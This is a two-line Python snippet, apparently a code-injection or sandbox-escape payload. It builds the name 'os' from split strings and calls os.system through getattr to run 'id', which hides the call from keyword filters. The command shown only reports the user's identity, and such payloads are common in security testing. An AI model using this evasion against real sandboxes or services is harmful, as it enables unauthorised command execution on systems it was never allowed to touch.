mod = __import__('o' + 's')
getattr(mod, 'system')('id')
